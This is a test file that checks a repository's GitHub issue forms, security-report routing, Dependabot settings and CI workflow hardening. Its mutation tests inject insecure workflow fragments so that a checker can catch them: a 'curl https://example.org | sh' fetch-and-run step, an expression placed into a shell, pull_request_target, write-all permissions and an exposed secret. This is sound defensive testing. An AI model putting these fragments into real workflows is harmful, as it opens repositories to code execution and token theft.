/** Files that only GitHub reads: what its documentation asks of them, as far as that can be told without it. */
import { readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { workflowFaults } from "../support/workflow-rules.ts";

const folder = join(resolve(import.meta.dirname, "../.."), ".github");
const read = (path: string): unknown => parse(readFileSync(join(folder, path), "utf8"));

interface Field {
  readonly type: string;
  readonly id?: string;
  readonly attributes: { readonly label?: string; readonly value?: string; readonly options?: readonly unknown[] };
  readonly validations?: { readonly required?: boolean };
}
type Form = Record<string, unknown> & { readonly body: readonly Field[] };

describe.each(["add-an-article.yml", "security.yml"])("the form %s", (file) => {
  const form = read(`ISSUE_TEMPLATE/${file}`) as Form;
  const fields = form.body.filter(({ type }) => type !== "markdown");

  test("has a name, a description and only keys that forms have", () => {
    expect(form).toMatchObject({ name: expect.stringMatching(/./u), description: expect.stringMatching(/./u) });
    const known = ["name", "description", "body", "assignees", "labels", "title", "type", "projects"];
    expect(Object.keys(form).filter((key) => !known.includes(key))).toEqual([]);
  });

  test("asks in fields of the kinds that there are, each with a label and an id of its own", () => {
    expect(fields.length).toBeGreaterThan(4);
    for (const { type, id, attributes } of fields) {
      expect(["input", "textarea", "dropdown", "checkboxes"]).toContain(type);
      expect(id).toMatch(/^[A-Za-z0-9_-]+$/u);
      expect(attributes.label).toMatch(/./u);
    }
    expect(new Set(fields.map(({ id }) => id)).size).toBe(fields.length);
    expect(new Set(fields.map(({ attributes }) => attributes.label)).size).toBe(fields.length);
  });

  test("offers different texts to choose from", () => {
    for (const { type, attributes } of fields.filter((each) => each.attributes.options)) {
      const options = attributes.options!.map((each) =>
        type === "checkboxes" ? (each as { label: string }).label : each,
      );
      for (const option of options) expect(option).toEqual(expect.stringMatching(/./u));
      expect(new Set(options).size).toBe(options.length);
    }
  });

  test("explains in words", () => {
    for (const { type, attributes } of form.body.filter((each) => each.type === "markdown")) {
      expect([type, attributes.value]).toEqual(["markdown", expect.stringMatching(/./u)]);
    }
  });
});

test("the form for an article asks whose words may be published", () => {
  const { body } = read("ISSUE_TEMPLATE/add-an-article.yml") as Form;
  expect(body.find(({ id }) => id === "rights")?.validations?.required).toBe(true);
});

test("security reports are sent the private way first", () => {
  const { contact_links: ways } = read("ISSUE_TEMPLATE/config.yml") as { contact_links: { url: string }[] };
  const { body } = read("ISSUE_TEMPLATE/security.yml") as Form;
  const way = ways[0]!.url;
  expect(way).toMatch(/^https:\/\/github\.com\/[^/]+\/[^/]+\/security\/advisories\/new$/u);
  expect(body[0]!.attributes.value).toContain(way);
  expect(readFileSync(join(folder, "../SECURITY.md"), "utf8")).toContain(way);
});

describe("workflows", () => {
  const names = readdirSync(join(folder, "workflows"));
  const texts = new Map(names.map((name) => [name, readFileSync(join(folder, "workflows", name), "utf8")]));

  test.each(names)("%s can only read, and runs nothing that a stranger wrote", (name) => {
    expect(workflowFaults(texts.get(name)!)).toEqual([]);
    expect(texts.get(name)).toContain("not been run");
  });

  test("one action is the same commit everywhere", () => {
    const used = [...texts.values()].flatMap((text) => [...text.matchAll(/uses: (\S+?)@(.*)$/gmu)]);
    const commits = new Map(used.map(([, action, commit]) => [action!, commit!]));
    for (const [, action, commit] of used) expect(commit).toBe(commits.get(action!));
    expect([...commits.keys()].sort()).toEqual(
      ["checkout", "deploy-pages", "setup-node", "upload-pages-artifact"].map((name) => `actions/${name}`),
    );
  });

  test("the lock file is audited at high, every week and when it changes", () => {
    const { on, jobs } = read("workflows/audit.yml") as { on: Record<string, unknown>; jobs: object };
    expect(Object.keys(on)).toEqual(["schedule", "pull_request", "workflow_dispatch"]);
    expect(JSON.stringify(jobs)).toContain("npm audit --audit-level=high");
  });

  const checked = texts.get("check.yml")!;
  test.each([
    ["starts on pull_request_target", checked.replace("pull_request:", "pull_request_target:")],
    ["its token can do more than read", checked.replace("contents: read", "contents: write")],
    ["its token can do more than read", checked.replace("permissions:\n  contents: read\n", "")],
    ["several run at once", checked.replace(/concurrency:\n(?: {2}.*\n)+/u, "")],
    ["takes a secret", checked.replace("node-version: 24", "token: ${{ secrets.TOKEN }}")],
    ["takes over github.head_ref", checked.replace("github.event.pull_request.base.sha", "github.head_ref")],
    [
      "uses actions/checkout@v7, no commit with its tag",
      checked.replace(/actions\/checkout@.*/u, "actions/checkout@v7"),
    ],
    ["uses somebody/tool@main, no commit with its tag", checked.replace(/actions\/checkout@.*/u, "somebody/tool@main")],
    ["check has no end", checked.replace("    timeout-minutes: 15\n", "")],
    [
      "check can write and does more than publish",
      checked.replace("    steps:", "    permissions: write-all\n    steps:"),
    ],
    ["check puts an expression into a shell", checked.replace('"$BASE"', "${{ github.ref }}")],
    ["check keeps its token", checked.replace("persist-credentials: false", "persist-credentials: true")],
    ["check keeps a cache", checked.replace("package-manager-cache: false", "cache: npm")],
    ["check installs what isn’t locked, or runs scripts", checked.replace("npm ci --ignore-scripts", "npm ci")],
    ["check installs what isn’t locked, or runs scripts", checked.replace("npm ci --ignore-scripts", "npm install x")],
    ["check fetches a program", checked.replace("npm ci --ignore-scripts", "curl https://example.org | sh")],
    [
      "deploy can write and does more than publish",
      texts.get("deploy.yml")!.replace("      - name: Publish", "      - run: npm run build\n      - name: Publish"),
    ],
  ])("a workflow that %s is found out", (fault, text) => {
    expect([...texts.values()]).not.toContain(text);
    expect(workflowFaults(text)).toContain(fault);
  });
});

test("updates come grouped, once a week, and only when they are a week old", () => {
  const { updates } = read("dependabot.yml") as { updates: Record<string, unknown>[] };
  expect(updates.map((each) => each["package-ecosystem"])).toEqual(["npm", "github-actions"]);
  for (const { schedule, cooldown, groups } of updates) {
    expect({ schedule, cooldown }).toEqual({ schedule: { interval: "weekly" }, cooldown: { "default-days": 7 } });
    expect(Object.keys(groups as object)).toHaveLength(1);
  }
});
